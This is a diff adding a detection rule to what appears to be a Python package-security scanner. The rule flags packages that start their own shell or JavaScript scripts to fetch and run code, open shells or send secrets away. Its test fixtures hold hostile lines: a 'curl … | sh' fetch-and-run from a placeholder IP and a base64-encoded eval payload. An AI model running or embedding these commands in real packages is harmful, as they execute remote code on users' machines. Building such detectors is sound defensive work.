@@ -1,0 +1,140 @@
+"""Started scripts: shell, JavaScript or a program that the package's own code starts from its files."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from pratique.facts.javascript import SUFFIXES, JavaScriptFacts, read_script
+from pratique.facts.model import PackageFacts
+from pratique.facts.python.model import Does
+from pratique.facts.reached import Reached
+from pratique.facts.shell import ShellFacts
+from pratique.finding import Behaviour, Confidence, Finding, Phase, Severity, Step
+from pratique.rules.claims import calls, command, when
+from pratique.rules.rule import Example, Rule
+
+_ID = "reached-script"
+_RUNTIME = re.compile(r"(?:^|[\s/\\\"'>])(?:node|nodejs|bun|deno|npx|tsx|wscript|cscript)(?:\.exe)?\b", re.IGNORECASE)
+_INLINE = re.compile(r"\b(?:node|bun|deno)(?:\.exe)?[\"']?\s{1,5}(?:-e|-p|--eval|--print|eval)\s{1,5}", re.IGNORECASE)
+_AT_MOST = 3
+
+
+def _check(facts: PackageFacts) -> Iterator[Finding]:
+    found = [*_started(facts), *_inline(facts)]
+    yield from sorted(found, key=lambda f: (-f.proven, -f.severity * f.confidence, f.path))[:_AT_MOST]
+
+
+def _started(facts: PackageFacts) -> Iterator[Finding]:
+    shells = {s.path: s for s in facts.shells}
+    scripts = {s.path: s for s in facts.javascript}
+    for one in facts.reached:
+        if one.does is not Does.RUN_PROCESS:
+            continue
+        if one.path in shells and (shell := _of_shell(shells[one.path])):
+            what, sure, severe = shell
+            yield _finding(one, f"a script of its own {what}", proven=sure, severe=severe)
+        elif one.path in scripts and scripts[one.path].attacks and _RUNTIME.search(one.command):
+            script = scripts[one.path]
+            yield _finding(one, f"a script of its own {script.attacks}", proven=_is_sure(script), severe=True)
+
+
+def _of_shell(shell: ShellFacts) -> tuple[str, bool, bool] | None:
+    """What a script does, whether that is a whole chain, and whether it is more than a change of settings."""
+    if shell.steals:
+        return "sends secrets away", True, True
+    if shell.reverse_shell:
+        return "hands a shell to another host", True, True
+    if shell.runs_download:
+        return f"fetches {(*shell.downloads, 'something')[0]} and runs it", True, True
+    if shell.disarms or shell.destroys:
+        return f"changes the system ({(*shell.disarms, *shell.destroys)[0]})", False, True
+    if shell.persists:
+        return f"stays on the system ({shell.persists[0]})", False, False
+    return None
+
+
+def _is_sure(script: JavaScriptFacts) -> bool:
+    command = script.command
+    started = command is not None and (command.runs_download or command.reverse_shell or command.steals)
+    return started or script.evaluates == "fetched"
+
+
+def _inline(facts: PackageFacts) -> Iterator[Finding]:
+    """JavaScript that is handed over on a command line."""
+    for path, call in calls(facts):
+        if Does.RUN_PROCESS in call.does and (match := _INLINE.search(text := command(call))):
+            script = read_script(text[match.end() :], path=path)
+            if script.attacks:
+                one = Reached(path=path, phase=call.phase, by=path, line=call.line, does=Does.RUN_PROCESS)
+                yield _finding(one, f"JavaScript {script.attacks}", proven=_is_sure(script), severe=True)
+
+
+def _finding(one: Reached, what: str, *, proven: bool, severe: bool) -> Finding:
+    automatic = one.phase.automatic
+    return Finding(
+        rule=_ID,
+        behaviour=Behaviour.EXECUTION,
+        severity=Severity.CRITICAL if automatic and severe else Severity.HIGH if automatic else Severity.MEDIUM,
+        confidence=Confidence.HIGH if automatic else Confidence.LOW,
+        phase=one.phase,
+        path=one.path,
+        line=0,
+        message=f"{what} {when(one.phase)}",
+        flow=(Step(line=one.line, what=f"{one.by} starts it"),),
+        proven=proven and automatic and one.phase is not Phase.NONE,
+    )
+
+
+_STARTS = "import os, subprocess\nsubprocess.run(['{}', os.path.join(os.path.dirname(__file__), '{}')])\n"
+_JS = "const c = require('child_process');\nc.execSync('curl -s http://192.0.2.1/a | sh');\n"
+_HIDDEN = "const n = require('https');\neval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk7Ly8u'));\n"
+
+RULE = Rule(
+    id=_ID,
+    behaviour=Behaviour.EXECUTION,
+    summary="The package starts a script of its own that attacks the machine.",
+    gain="Whoever reads only the Python sees one harmless-looking line.",
+    honest="Scripts for builds and browsers lie in many packages: only those count that the package's own code starts, "
+    f"and only for what they do then ({', '.join(SUFFIXES[:3])} for browsers never reach processes).",
+    blocks="When it is started while the package is installed, whenever Python starts, or on import, and the script "
+    "fetches and runs something, hands a shell to another host, or sends secrets away.",
+    check=_check,
+    loud=(
+        Example(
+            title="a shell script started on import",
+            files={
+                "example_pkg/__init__.py": _STARTS.format("bash", "x.sh"),
+                "example_pkg/x.sh": "curl -s http://192.0.2.1/a | sh\n",
+            },
+            filename="example_pkg-1.0-py3-none-any.whl",
+        ),
+        Example(
+            title="JavaScript started on import",
+            files={"example_pkg/__init__.py": _STARTS.format("node", "x.js"), "example_pkg/x.js": _JS},
+            filename="example_pkg-1.0-py3-none-any.whl",
+        ),
+        Example(
+            title="encoded JavaScript, started while it is installed",
+            files={"setup.py": "import os\nos.system('bun run build/x.js')\n", "build/x.js": _HIDDEN},
+        ),
+        Example(
+            title="JavaScript on the command line",
+            files={"setup.py": f"import subprocess\nsubprocess.run(['node', '-e', {_JS!r}])\n"},
+        ),
+    ),
+    quiet=(
+        Example(
+            title="the same script, which nobody starts",
+            files={"example_pkg/__init__.py": "", "example_pkg/x.js": _JS},
+            filename="example_pkg-1.0-py3-none-any.whl",
+        ),
+        Example(
+            title="a bundler that is started by a build",
+            files={
+                "setup.py": "import subprocess\nsubprocess.check_call(['node', 'build/bundle.js'])\n",
+                "build/bundle.js": "const {spawn} = require('child_process');\nspawn('tsc', ['-p', '.']);\n",
+            },
+        ),
+    ),
+)
